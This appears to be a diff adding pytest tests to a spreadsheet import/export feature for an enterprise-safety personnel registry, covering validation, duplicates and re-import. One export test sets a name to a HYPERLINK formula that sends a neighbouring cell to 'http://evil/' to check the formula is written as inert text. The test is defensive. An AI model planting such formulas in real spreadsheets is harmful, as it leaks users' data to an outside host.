@@ -241,3 +241,92 @@ def test_cli_import_reports_bad_rows_and_fails(runner, district, tmp_path):
     result = runner.invoke(args=["people", "import", str(path)])
     assert result.exit_code == 1
     assert "row 2" in result.output
+
+
+def test_overlong_and_out_of_range_values_are_reported_not_crashed():
+    code = valid_credit_code()
+    plan = _plan(xlsx(
+        [["长" * 201, code, "危险化学品", "城关街道", "", "", "1" * 40, 99999999999],
+         ["上标公司", valid_credit_code(), "危险化学品", "城关街道", "", "", "", "²"]],
+        [["名" * 61, valid_id_number(), "13800000001", "主要负责人", code, "", ""]]))
+    found = {(e.sheet, e.row) for e in plan.errors}
+    assert {("企业", 2), ("企业", 3), ("人员", 2)} <= found
+    assert len([e for e in plan.errors if (e.sheet, e.row) == ("企业", 2)]) == 3  # name, phone, count
+
+
+def test_english_sector_and_post_names_are_understood_whatever_the_language(app):
+    from exam.people import services
+
+    make_lookups = services.lookups()
+    make_lookups.towns.add("城关街道")
+    code = valid_credit_code()
+    data = xlsx([["Acme Chemicals Ltd", code, "Hazardous chemicals, Dust-explosion risk", "城关街道",
+                  "", "", "", ""]],
+                [["Zhang Wei", valid_id_number(), "13800000001", "Principal leader", code, "", ""]])
+    plan = build_plan(read_spreadsheet("x.xlsx", data), make_lookups, TODAY)
+    assert plan.ok, plan.errors
+    assert plan.enterprises[0].sector_codes == ["hazardous_chemicals", "dust_explosion"]
+    assert plan.people[0].role == "principal_leader"
+
+
+def test_a_mobile_shared_by_two_people_is_reported():
+    code = valid_credit_code()
+    plan = _plan(xlsx([_company(code)],
+                      [["甲", valid_id_number(), "13800000009", "主要负责人", code, "", ""],
+                       ["乙", valid_id_number(), "13800000009", "安全总监", code, "", ""]]))
+    assert [(e.sheet, e.row) for e in plan.errors] == [("人员", 3)]
+    assert "13800000009" in plan.errors[0].message
+    registered = Lookups(LOOKUPS.sectors, LOOKUPS.towns, set(), {"13800000009": "someone-else"})
+    plan = _plan(xlsx([_company(code)], [["甲", valid_id_number(), "13800000009", "主要负责人", code,
+                                          "", ""]]), registered)
+    assert "registered to another person" in plan.errors[0].message
+
+
+def test_export_writes_formula_like_text_as_text(client, login_as, make_person):
+    from exam.people.spreadsheets import Table, write_csv
+
+    person = make_person()
+    person.name = '=HYPERLINK("http://evil/?"&B2,"点击")'  # as if it slipped in before validation
+    db.session.commit()
+    login_as(UserRole.ADMIN)
+    sheet = load_workbook(io.BytesIO(client.get("/export.xlsx").data))["人员"]
+    assert sheet["A2"].value == person.name and sheet["A2"].data_type == "s"
+    assert write_csv(Table("t", ["a"], [["=1+1"]])).decode("utf-8-sig").splitlines()[1] == "'=1+1"
+
+
+def test_changing_a_town_by_reimport_is_applied(client, login_as, district, make_town):
+    make_town("乙镇")
+    login_as(UserRole.ADMIN)
+    code = valid_credit_code()
+    _confirm(client, _upload(client, xlsx([_company(code)])))
+    done = _confirm(client, _upload(client, xlsx([_company(code, town="乙镇")])))
+    assert done.status_code == 200
+    assert db.session.scalar(db.select(Enterprise).where(Enterprise.credit_code == code)).town.name == "乙镇"
+
+
+def test_confirming_twice_imports_once(client, login_as, district):
+    login_as(UserRole.ADMIN)
+    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
+    preview = _upload(client, _register_file(codes, ids))
+    assert _confirm(client, preview).status_code == 200
+    again = _confirm(client, preview)
+    assert again.status_code == 302 and again.headers["Location"].endswith("/import")
+    assert db.session.scalar(db.select(db.func.count(Person.id))) == 3
+
+
+def test_another_app_host_can_confirm_the_upload(app, client, login_as, district, database_url):
+    """The pending upload is in the database, not on the disk of the host that checked it."""
+    from exam import create_app
+
+    admin = login_as(UserRole.ADMIN)
+    preview = _upload(client, _register_file([valid_credit_code(), valid_credit_code()],
+                                             [valid_id_number() for _ in range(3)]))
+    token = re.search(r'name="token" type="hidden" value="([0-9a-f]+)"', preview.get_data(as_text=True)).group(1)
+    other_host = create_app({**app.config, "SQLALCHEMY_DATABASE_URI": database_url})
+    other_host.test_client_class = type(client)
+    other_client = other_host.test_client()
+    other_client.post("/login", data={"login": admin.username, "password": "Test-pass-2026"})
+    assert other_client.post("/import/confirm", data={"token": token}).status_code == 200
+    with other_host.app_context():
+        db.engine.dispose()
+    assert db.session.scalar(db.select(db.func.count(Person.id))) == 3
